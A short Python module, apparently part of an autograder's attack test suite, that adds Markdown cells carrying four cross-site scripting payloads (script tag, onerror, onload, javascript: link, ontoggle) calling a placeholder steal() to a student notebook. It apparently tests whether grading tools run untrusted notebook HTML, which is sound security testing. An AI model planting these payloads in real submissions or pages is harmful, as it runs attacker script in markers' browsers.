"""Hands in Markdown that acts in the browser of whoever marks the notebook, in any program that shows it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tplib.autograde.attacks.course import write_notebook

TEXTS = (
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()><a href='javascript:steal()'>x</a></svg>",
    "<details open ontoggle=steal()>x</details>",
)


def hand_in(folder: Path, notebook: dict[str, Any]) -> None:
    for text in TEXTS:
        notebook["cells"].append(
            {"cell_type": "markdown", "id": f"m{len(notebook['cells'])}", "metadata": {}, "source": text}
        )
    write_notebook(folder / "task.ipynb", notebook)
